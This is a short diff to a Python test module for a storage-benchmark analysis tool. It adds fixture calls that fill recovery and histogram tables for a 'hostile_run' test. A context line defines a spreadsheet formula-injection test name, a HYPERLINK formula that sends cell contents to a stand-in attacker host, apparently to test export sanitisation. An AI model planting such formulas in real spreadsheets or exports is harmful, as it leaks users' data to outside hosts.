@@ -14,6 +14,8 @@ from analysis.datasets.spreadsheet import FORMULA_PREFIXES, spreadsheet_safe
 from analysis.datasets.tables import TABLES, Column
 from analysis.models import Measurement
 from analysis.tests.factories import HostFactory, SteadyStateWindowFactory, iops_run
+from analysis.tests.factories_dirth import add_results
+from analysis.tests.recovery_rows import add_recovery_rows
 from analysis.tests.surface_factory import surface_run
 
 NAME = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
@@ -33,6 +35,8 @@ def hostile_run(db):
     SteadyStateWindowFactory(test_run=run)
     Measurement.objects.filter(test_run=run).update(write_iops=-5.0)
     surface_run(**{k: getattr(run, k) for k in ("submission", "drive_model", "firmware", "unit", "host", "pcie_link")})
+    add_recovery_rows(run)  # the HIR/XSR tables
+    add_results(run)  # the demand-intensity and histogram tables
     return run
 
 
